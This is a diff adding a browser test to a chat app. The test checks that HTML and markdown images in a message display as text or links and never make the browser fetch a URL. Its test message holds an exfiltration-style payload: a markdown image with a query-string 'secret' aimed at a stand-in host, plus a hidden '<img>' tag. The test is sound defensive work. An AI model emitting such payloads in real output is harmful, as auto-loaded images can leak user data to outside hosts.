@@ -361,6 +361,26 @@ def test_second_user_sees_nothing(server, chat_page, browser_ctx):
     browser_ctx.clear_cookies()
 
 
+def test_html_and_images_in_a_message_are_shown_never_loaded(server, browser_ctx):
+    """A message's HTML shows as text, past a stray backtick and a blank line too, and a markdown
+    image shows as a link: nothing in a message makes the browser fetch a URL on its own."""
+    page = signed_in(browser_ctx, server.url, "bob", "pw-bob")
+    fetched = []
+    page.on("request", lambda r: fetched.append(r.url) if "elsewhere.invalid" in r.url else None)
+    send(
+        page,
+        "See ![status](http://elsewhere.invalid/x.png?q=secret) and `a\n\n<img src=http://elsewhere.invalid/y.png>\n\n`",
+    )
+    mine = page.locator('#chat [data-testid="user"]').last
+    expect(mine).to_contain_text("<img src=http://elsewhere.invalid/y.png>")
+    expect(mine.locator("a[href*='elsewhere.invalid/x.png']")).to_have_count(1)
+    assert mine.locator("img").count() == 0
+    page.locator("#stop").click()
+    expect(page.locator("#send")).to_be_visible()
+    assert fetched == [] and page.errors == []
+    browser_ctx.clear_cookies()
+
+
 POEM_PROMPT = "Write a very long poem about the sea, at least 1000 words."
 
 
